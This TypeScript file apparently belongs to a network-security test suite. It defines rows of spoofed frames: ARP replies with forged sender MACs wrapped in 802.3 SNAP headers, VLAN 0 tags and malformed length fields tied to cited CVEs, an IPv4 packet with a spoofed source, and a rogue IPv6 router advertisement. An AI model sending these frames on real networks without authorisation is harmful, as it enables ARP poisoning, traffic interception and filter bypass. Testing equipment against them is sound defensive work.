import {
  arpMessage,
  ethernet,
  etherTypes,
  icmp6Message,
  icmp6Types,
  icmpMessage,
  ipv4Packet,
  ipv6Packet,
  routerAdvertisementBody,
  snap,
  snapCodes,
  u16,
} from '../../hosts/index.js';
import { type Cast, rows } from '../row.js';

const lie = ({ forged, other, victim }: Cast): Buffer =>
  arpMessage({ op: 2, senderMac: forged, senderIp: other.ip, targetIp: victim.ip });

const wrongLength = 'CVE-2021-27861, CVE-2021-27862: a wrong 802.3 length';

/** A tag inside of SNAP, and what it holds. */
const tagged = (cast: Cast): Buffer => Buffer.concat([u16(0), u16(etherTypes.arp), lie(cast)]);

/** The same lies in 802.3 frames, which some receivers translate to Ethernet's form. */
export const snapRows = rows(
  { class: 'mac', source: 'CVE-2021-27853, CVE-2021-27854: SNAP headers, with and without tags for VLAN 0' },
  [
    {
      name: 'arp-forged-sender-snap',
      what: 'ARP with a forged sender MAC in an 802.3 frame with a SNAP header',
      source: 'measured',
      frames: (cast) => snap({ src: cast.own.mac }, { type: etherTypes.arp, payload: lie(cast) }),
    },
    {
      name: 'arp-forged-sender-snap-bridge-tunnel',
      what: "ARP with a forged sender MAC in SNAP with the organisation code of 802.1H's bridge tunnel",
      frames: (cast) =>
        snap(
          { src: cast.own.mac },
          { type: etherTypes.arp, payload: lie(cast), code: snapCodes.bridgeTunnel },
        ),
    },
    {
      name: 'arp-forged-sender-snap-in-tag',
      what: 'ARP with a forged sender MAC in SNAP inside a tag for VLAN 0',
      frames: (cast) =>
        snap({ src: cast.own.mac, tags: [{ vid: 0 }] }, { type: etherTypes.arp, payload: lie(cast) }),
    },
    {
      name: 'arp-forged-sender-tag-in-snap',
      what: 'ARP with a forged sender MAC in a tag for VLAN 0 inside SNAP',
      frames: (cast) => snap({ src: cast.own.mac }, { type: etherTypes.vlan, payload: tagged(cast) }),
    },
    {
      name: 'arp-forged-sender-snap-length-long',
      what: 'ARP with a forged sender MAC in SNAP with a length greater than the frame',
      source: wrongLength,
      frames: (cast) =>
        snap({ src: cast.own.mac }, { type: etherTypes.arp, payload: lie(cast), length: 1500 }),
    },
    {
      name: 'arp-forged-sender-snap-length-zero',
      what: 'ARP with a forged sender MAC in SNAP with length 0',
      source: wrongLength,
      frames: (cast) => snap({ src: cast.own.mac }, { type: etherTypes.arp, payload: lie(cast), length: 0 }),
    },
    {
      name: 'arp-forged-sender-length-undefined',
      what: 'ARP with a forged sender MAC in SNAP with a number that is neither a length nor a type (1501)',
      source: wrongLength,
      frames: (cast) =>
        snap({ src: cast.own.mac }, { type: etherTypes.arp, payload: lie(cast), length: 1501 }),
    },
    {
      name: 'mac-forged-llc',
      what: 'an 802.3 frame with a forged source MAC',
      source: 'measured',
      frames: ({ forged }) => ethernet({ src: forged, payload: Buffer.from([0xf0, 0xf0, 3]) }),
    },
    {
      name: 'ipv4-foreign-source-snap',
      what: "IPv4 from another's address in an 802.3 frame with a SNAP header",
      class: 'ip',
      frames: ({ own, other, victim }) => {
        const payload = ipv4Packet({ src: other.ip, dst: victim.ip, protocol: 1, payload: icmpMessage() });
        return snap({ src: own.mac }, { type: etherTypes.ipv4, payload });
      },
    },
    {
      name: 'router-advertisement-snap',
      what: 'a router advertisement in an 802.3 frame with a SNAP header',
      class: 'router',
      frames: ({ own, other }) => {
        const src = other.linkLocal;
        const message = icmp6Message(
          src,
          'ff02::1',
          icmp6Types.routerAdvertisement,
          routerAdvertisementBody(),
        );
        const payload = ipv6Packet({ src, dst: 'ff02::1', protocol: 58, payload: message });
        return snap({ src: own.mac, dst: '33:33:00:00:00:01' }, { type: etherTypes.ipv6, payload });
      },
    },
  ],
);
